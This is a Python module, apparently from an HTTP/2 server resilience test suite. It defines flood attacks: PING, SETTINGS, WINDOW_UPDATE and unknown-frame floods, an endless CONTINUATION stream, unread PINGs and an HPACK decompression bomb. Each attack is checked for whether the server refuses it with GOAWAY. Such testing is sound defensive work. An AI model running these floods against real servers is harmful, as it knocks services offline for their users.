"""Flood the server with frames that are cheaper to send than to process."""

import asyncio
import itertools
from collections.abc import Iterator
from functools import partial

from credit_testing import frames
from credit_testing.calls import call_headers
from credit_testing.frames import ErrorCode, Flag, Kind

from credit_resilience.attack import Attack, Outcome, Target
from credit_resilience.attacks.resets import send_until_ended
from credit_resilience.requests import BALANCE, call_block

_FRAMES = 100_000
_CONTINUATIONS = 20_000
_PER_PIECE = 500
"""The number of frames in one send."""
_STREAM = 1
_OPENED = frames.headers(_STREAM, call_block(BALANCE))

# A header of 4,000 bytes is indexed once, and one byte repeats it: RFC 7541, section 6.1.
_BOMB_VALUE_BYTES = 4000
_BOMB_REPEATS = 12_000
_NEWEST_ENTRY = b"\xbe"
_BOMB_STREAMS = 8


async def _flood(frame: bytes, opening: bytes, full: int, target: Target) -> Outcome:
    """Send one frame many times."""
    pieces = itertools.repeat(frame * _PER_PIECE, max(1, target.count(full) // _PER_PIECE))
    return await _send(itertools.chain([opening], pieces), target, ErrorCode.ENHANCE_YOUR_CALM)


async def _endless_headers(target: Target) -> Outcome:
    """Begin a header block and continue it without END_HEADERS."""
    begun = frames.headers(_STREAM, call_block(BALANCE), Flag.NONE)
    more = frames.frame(
        Kind.CONTINUATION, frames.header_block([("x-more", "and more")]), stream=_STREAM
    )
    count = max(1, target.count(_CONTINUATIONS) // _PER_PIECE)
    return await _send(itertools.chain([begun], itertools.repeat(more * _PER_PIECE, count)), target)


async def _hpack_bomb(target: Target) -> Outcome:
    """Send small header blocks that decode to many megabytes."""
    bomb = frames.header_block(call_headers(BALANCE))
    bomb += frames.remembered("x-bomb", "b" * _BOMB_VALUE_BYTES)
    bomb += _NEWEST_ENTRY * target.count(_BOMB_REPEATS)
    streams = range(_STREAM, 2 * _BOMB_STREAMS, 2)
    pieces = (
        frames.headers(stream, bomb, Flag.END_HEADERS | Flag.END_STREAM) for stream in streams
    )
    return await _send(pieces, target)


async def _unread_pings(target: Target) -> Outcome:
    """Send PINGs without reading the answers, which accumulate in the server."""
    piece = frames.frame(Kind.PING, b"unread!!") * _PER_PIECE
    async with target.connect(reads=False) as peer:
        try:
            async with asyncio.timeout(target.seconds):
                for _ in range(max(1, target.count(_FRAMES) // _PER_PIECE)):
                    await peer.write_all(piece)
                await target.disconnected(peer)
                ended = True
        except TimeoutError:
            ended = False
    return Outcome(seen="closed" if ended else f"open after {target.seconds:g} s", held=ended)


async def _send(pieces: Iterator[bytes], target: Target, code: ErrorCode | None = None) -> Outcome:
    async with target.connect() as peer:
        seen = await send_until_ended(peer, pieces, target)
    refused = peer.goaway is not None if code is None else peer.goaway == code
    return Outcome(seen=seen, held=refused and peer.closed.is_set())


def _attack(name: str, frame: bytes, opening: bytes = b"", full: int = _FRAMES) -> Attack:
    return Attack(
        name=f"flood:{name}",
        required="GOAWAY ENHANCE_YOUR_CALM",
        run=partial(_flood, frame, opening, full),
    )


ATTACKS = (
    _attack("ping", frames.frame(Kind.PING, b"flooding")),
    Attack(name="flood:ping-unread", required="closed", run=_unread_pings),
    _attack("settings", frames.settings()),
    _attack("priority", frames.priority(_STREAM, 0)),
    _attack("window-update", frames.window_update(1)),
    _attack("window-update-of-stream", frames.window_update(1, stream=_STREAM), _OPENED),
    _attack("empty-data", frames.data(_STREAM, b""), _OPENED),
    _attack("unknown-frame", frames.frame(0xFA, b"?")),
    Attack(name="flood:continuation", required="GOAWAY", run=_endless_headers),
    Attack(name="flood:hpack-bomb", required="GOAWAY, memory flat", run=_hpack_bomb),
)
